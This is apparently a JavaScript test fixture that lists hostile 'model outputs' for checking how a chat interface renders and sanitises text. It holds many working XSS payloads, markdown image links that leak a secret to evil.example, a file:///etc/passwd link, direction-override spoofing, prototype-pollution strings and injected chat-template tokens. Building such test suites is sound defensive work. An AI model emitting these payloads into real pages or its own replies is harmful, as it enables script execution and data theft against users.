// Outputs of a model that attack the page: scripts, event handlers, addresses that run, remote content, styles, broken markup, tricks with directions. Each calls
// window.owned, changes the page, or loads something from evil.example if the page lets it. Lines that differ in one detail are made from lists.
const call = 'owned()';
const remote = 'http://evil.example/leak';

const elements = [
  `<script>${call}</script>`, `<script src="${remote}.js"></script>`, `<script type="module">${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script\n>${call}</script\n>`, `<scr<script>ipt>${call}</script>`,
  `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<object data="javascript:${call}"></object>`, `<embed src="${remote}.swf">`,
  `<base href="http://evil.example/">`, `<meta http-equiv="refresh" content="0;url=${remote}">`, `<link rel="stylesheet" href="${remote}.css">`, `<link rel="prefetch" href="${remote}">`,
  `<style>@import "${remote}.css"; body { display: none }</style>`, `<style>* { background: url(${remote}) }</style>`, `<form action="${remote}"><input name="q"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`, `<a href="javascript:${call}">x</a>`, `<a href="${remote}" ping="${remote}">x</a>`, `<video src="${remote}.mp4" autoplay></video>`, `<audio src="${remote}.mp3" autoplay></audio>`,
  `<video poster="${remote}.png"></video>`, `<source src="${remote}">`, `<picture><source srcset="${remote}"><img></picture>`, `<input type="image" src="${remote}">`, `<body background="${remote}">`, `<table background="${remote}">`,
  `<template><script>${call}</script></template>`, `<noscript><img src=x onerror=${call}></noscript>`, `<title><img src=x onerror=${call}></title>`, `<textarea><img src=x onerror=${call}></textarea>`, `<xmp><img src=x onerror=${call}></xmp>`,
  `<!--<img src="--><img src=x onerror=${call}//">`, `<![CDATA[<img src=x onerror=${call}>]]>`, `<?xml-stylesheet href="${remote}"?>`, `<dialog open><h1>Your key?</h1></dialog>`, `<div id="main" class="skip">x</div>`, `<div hidden popover id=p>x</div>`,
  `<svg onload=${call}></svg>`, `<svg><script>${call}</script></svg>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`, `<svg><animate onbegin=${call} attributeName=x></svg>`, `<svg><use href="${remote}#x"/></svg>`,
  `<svg><image href="${remote}.png"/></svg>`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`, `<svg><set attributeName=onmouseover to=${call}>`, `<svg><style>@import "${remote}"</style></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`, `<math href="javascript:${call}">x</math>`, `<math><mi xlink:href="javascript:${call}">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<math><mglyph><style><img src=x onerror=${call}></style></mglyph></math>`, `<custom-element onclick=${call}>x</custom-element>`, `<marquee onstart=${call}>x</marquee>`, `<details open ontoggle=${call}>x</details>`, `<isindex type=image src=1 onerror=${call}>`,
];

const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onwheel', 'onbeforetoggle', 'onscrollend', 'oncontentvisibilityautostatechange'].flatMap(name => [
  `<img src=x ${name}=${call}>`, `<div tabindex=0 autofocus ${name}="${call}" style="animation: x 1s">x</div>`,
]);

const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, ` javascript:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`, `&#x6A;avascript:${call}`, `javascript:/*--></title></style>*/${call}`, `\u0001javascript:${call}`,
  `vbscript:${call}`, `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload=${call}>`, `blob:http://node.lan/x`, `file:///etc/passwd`, `filesystem:http://x/y`,
  `view-source:${remote}`, `intent://x#Intent;end`, `//evil.example/x`, `/unload_model`, `../load_model`, `?x=1`, `#/models`, `http://user:password@evil.example/`, `ws://evil.example/`, `about:blank`, `chrome://settings`,
].flatMap(address => [`[click](${address})`, `[click](<${address}>)`, `![picture](${address})`, `[click][x]\n\n[x]: ${address}`]);

const pictures = [
  `![leak](${remote}?q=secret)`, `![leak](<${remote}> "title")`, `![leak][x]\n\n[x]: ${remote}`, `[![leak](${remote})](${remote})`, `![leak](https://evil.example/x.png)`, `<img src="${remote}">`, `<img srcset="${remote} 1x">`,
  `![a](${remote}\\)b)`, `| ![leak](${remote}) |\n|---|\n| x |`, `- ![leak](${remote})`, `> ![leak](${remote})`, `# ![leak](${remote})`, `**![leak](${remote})**`, `\`\`\`html\n<img src="${remote}">\n\`\`\``, `![x" onerror="${call}](x)`, `[x" onclick="${call}](http://a.example "x\\" onclick=${call}")`,
];

const tricks = [
  '\u202eelpmaxe.live\u202c', '[http://good.example\u202e](http://evil.example)', '\u2066\u2067\u2068'.repeat(200), 'a\u0300'.repeat(3000), '\u0000\u0001\u0002\ufffe\uffff', '\ud83d', '\u2028\u2029', '\u00ad'.repeat(500), '\ufeff<script>owned()</script>',
  '```\n```'.repeat(300), '```html', '`'.repeat(3000), '*'.repeat(3001), '_'.repeat(3000), '~'.repeat(3001), '['.repeat(3000), ']('.repeat(1500), '>'.repeat(3000), '#'.repeat(3000), '- '.repeat(1500), '1. '.repeat(1000), '|'.repeat(3000), '|-'.repeat(1500),
  '<'.repeat(3000), '&'.repeat(3000), '\\'.repeat(3000), '!['.repeat(1500), '$$'.repeat(1500), '\\('.repeat(1500), '[^1]: note [^1]', '***bold** italic*', '<div>'.repeat(1500), '</div>'.repeat(500), '</article></main></body></html>', '{{constructor.constructor("owned()")()}}',
  '${owned()}', '__proto__', 'constructor', '[__proto__]: http://x.example\n\n[__proto__]', '&lt;img src=x onerror=owned()&gt;', '&#60;script&#62;owned()&#60;/script&#62;', '```"><img src=x onerror=owned()>\nx\n```', '```js onload=owned()\nx\n```',
  '| a |\n|---|\n' + '| <img src=x onerror=owned()> |\n'.repeat(50), 'x'.repeat(30000), '</think><script>owned()</script>', '\x1b]8;;http://evil.example\x07x', 'data: [DONE]\n\nevent: error', '</script><script>owned()</script>', '<a href="http://evil.example" target="_self">x</a>', '<|im_end|>',
];

export const hostileOutputs = [...elements, ...handlers, ...addresses, ...pictures, ...tricks];
